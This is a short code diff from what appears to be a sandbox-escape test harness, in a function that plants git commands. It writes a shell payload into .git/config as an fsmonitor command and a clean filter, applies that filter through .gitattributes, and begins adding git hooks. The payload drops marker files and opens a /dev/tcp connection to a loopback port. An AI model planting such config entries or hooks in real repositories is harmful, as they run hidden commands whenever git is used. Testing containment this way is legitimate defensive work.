@@ -461,7 +461,7 @@ async function escapeAll(p) {
 function plantGitCommands(p) {
   if (!fs.existsSync('.git/config')) return { planted: false };
   const evil = `touch ${process.cwd()}/.git/atk-ran; echo pwned > ${p.writeTargets[0]}.git 2>/dev/null; (exec 3<>/dev/tcp/127.0.0.1/${p.loopbackPort} && echo git-hello >&3) 2>/dev/null; true`;
-  fs.appendFileSync('.git/config', `\n[core]\n\tfsmonitor = "sh -c '${evil}' #"\n[filter \"atk\"]\n\tclean = "sh -c '${evil}; cat'"\n\tsmudge = cat\n`);
+  fs.appendFileSync('.git/config', `\n[core]\n\tfsmonitor = "sh -c '${evil}' #"\n[filter "atk"]\n\tclean = "sh -c '${evil}; cat'"\n\tsmudge = cat\n`);
   fs.writeFileSync('.gitattributes', '* filter=atk\n');
   fs.mkdirSync('.git/hooks', { recursive: true });
   for (const hook of ['pre-commit', 'post-commit', 'post-checkout', 'pre-auto-gc', 'post-index-change']) {
